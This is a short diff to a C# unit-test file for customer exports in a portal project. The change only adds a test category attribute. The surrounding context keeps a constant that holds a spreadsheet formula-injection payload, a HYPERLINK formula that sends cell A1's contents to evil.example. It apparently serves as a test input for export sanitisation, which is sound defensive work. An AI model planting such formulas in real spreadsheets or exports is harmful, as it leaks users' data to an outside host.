@@ -5,6 +5,7 @@ using ClvPortal.Web.Results;
 
 namespace ClvPortal.Tests.Web.Results;
 
+[Trait("Category", "Unit")]
 public sealed class CustomerExportTests
 {
     private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")";
